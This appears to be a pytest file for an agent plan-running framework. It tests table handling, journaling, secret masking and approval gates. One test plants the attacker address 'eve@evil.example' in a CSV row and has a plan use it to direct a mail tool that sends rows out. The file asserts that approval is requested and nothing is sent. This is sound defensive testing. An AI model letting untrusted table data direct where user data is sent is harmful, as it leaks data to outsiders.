"""Large tables in a run: labels, policy, approvals, records and replays are those of the plain way."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from runs_boundary import Person

from bicameral.plans import parse
from bicameral.policy import Policy
from bicameral.runs import Failed, Finished, Journal, replay, run_plan
from bicameral.secrets import isolate_secrets, register_secret
from bicameral.toolboxes.tables import toolbox
from bicameral.tools import Folders, Registry, Surroundings, tool
from bicameral.types import Table

pytest.importorskip("polars")

SENT: list[Any] = []


@tool(effect="send", purpose={"to": "directs", "rows": "carries"})
def mail_rows(to: str, rows: list[dict[str, Any]]) -> None:
    """Send some rows."""
    SENT.append((to, rows))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    SENT.clear()
    lines = [
        f"{number},{'eve@evil.example' if number == 7 else 'a@b.example'},{number / 4}" for number in range(20_000)
    ]
    (tmp_path / "large.csv").write_text("id,address,amount\n" + "\n".join(lines), encoding="utf-8")
    return tmp_path


def open_tools(folder: Path, *, columnar: bool = True, trusted: bool = False) -> Registry:
    folders = Folders.of(folder, read=[folder], trusted=[folder] if trusted else [])
    return Registry([*toolbox.open(Surroundings(folders), {"columnar": columnar}), mail_rows])


async def run(source: str, registry: Registry, **options: Any) -> Any:
    return await run_plan(parse(source, registry).plan, registry, policy=Policy.load((), registry), **options)


SELECTING = """
rows = read_csv("large.csv")
kept = filter_rows(rows, "amount", ">", 4000)
more = [r for r in kept if r.address == "a@b.example"]
sums = group_rows(more, "address", "amount")
answer([kept, more, sums, sorted(kept, key=lambda r: r.amount, reverse=True)[:2]])
"""


async def test_answers_labels_and_records_are_those_of_the_plain_way(folder: Path, tmp_path: Path) -> None:
    found: list[Any] = []
    for columnar in (True, False):
        registry = open_tools(folder, columnar=columnar)
        with Journal(tmp_path / f"{columnar}.db") as journal:
            outcome = await run(SELECTING, registry, journal=journal, run="r1")
            assert isinstance(outcome, Finished)
            bodies = [event.body for event in journal.events("r1") if event.kind.startswith("step-")]
            recorded = [{key: part for key, part in body.items() if key != "seconds"} for body in bodies]
            assert (await replay(journal, "r1", registry)).identical
        found.append((repr(outcome.answer), outcome.shade, outcome.doubts, json.dumps(recorded)))
    assert found[0] == found[1]


async def test_an_address_from_an_untrusted_table_is_asked_about_as_in_the_plain_way(folder: Path) -> None:
    """The attack: an address that somebody else wrote into a table directs a call."""
    source = 'rows = read_csv("large.csv")\nmail_rows(rows[7].address, rows[:2])\nanswer(1)'
    questions: list[Any] = []
    for columnar in (True, False):
        person = Person(lambda call: False)
        outcome = await run(source, open_tools(folder, columnar=columnar), approver=person)
        assert isinstance(outcome, Failed)
        calls = [call for question in person.asked for call in question.calls]
        questions.append([(call.hash, dict(call.arguments)) for call in calls])
        # The person reads rows, and the hash that an approval is bound to is that of the rows.
        assert type(calls[0].arguments["rows"]) is list
    assert SENT == []
    assert questions[0] == questions[1]


async def test_an_approved_call_gets_plain_rows(folder: Path) -> None:
    """The benign twin: the person agrees, and the tool gets the rows as every tool does."""
    source = 'rows = read_csv("large.csv")\nmail_rows("a@b.example", rows[:2])\nanswer(1)'
    outcome = await run(source, open_tools(folder, trusted=True), approver=Person(lambda call: True))
    assert isinstance(outcome, Finished)
    assert [(to, type(rows), len(rows)) for to, rows in SENT] == [("a@b.example", list, 2)]


async def test_a_table_beyond_the_plain_way_is_recorded_once_masked_and_replayed(tmp_path: Path) -> None:
    with (tmp_path / "many.csv").open("w", encoding="utf-8") as file:
        file.write("id,key\n")
        file.writelines(f"{number},{'hunter2-hunter2' if number == 5 else 'x'}\n" for number in range(340_000))
    source = 'rows = read_csv("many.csv")\nkept = filter_rows(rows, "id", "<", 9)\nanswer([len(rows), len(kept)])'
    registry = open_tools(tmp_path)
    with isolate_secrets(), Journal(tmp_path / "journal.db") as journal:
        register_secret("a password", "hunter2-hunter2")
        outcome = await run(source, registry, journal=journal, run="r1")
        assert isinstance(outcome, Finished)
        assert outcome.answer == [340_000, 9]
        steps = {(event.kind, event.step): event.body for event in journal.events("r1")}
        given, read = steps["step-started", "1"]["arguments"]["rows"], steps["step-finished", "0"]["result"]
        assert given["$table"].keys() == {"rows", "digest"}
        assert "hunter2" not in json.dumps(read)
        assert read["$table"]["columns"]["1"]["parts"][""][1].count("\n") == 339_999
        assert (await replay(journal, "r1", registry)).outcome.answer == [340_000, 9]  # type: ignore[union-attr]


async def test_a_table_is_no_longer_one_where_a_plan_adds_to_it(folder: Path) -> None:
    source = 'rows = read_csv("large.csv")\nrows.append({"id": -1, "address": "z", "amount": 0})\nanswer(rows[-2:])'
    outcome = await run(source, open_tools(folder))
    assert isinstance(outcome, Finished)
    assert [row["id"] for row in outcome.answer] == [19_999, -1]


async def test_a_loop_takes_the_rows_of_a_table_one_by_one(folder: Path) -> None:
    source = """
rows = read_csv("large.csv")
n = 0
for r in rows[:3]:
    n += r.id
answer([n, "empty" if not rows else "full"])
"""
    outcome = await run(source, open_tools(folder))
    assert isinstance(outcome, Finished)
    assert outcome.answer == [3, "full"]
    assert type(await open_tools(folder)["read_csv"].call({"path": "large.csv"})) is Table
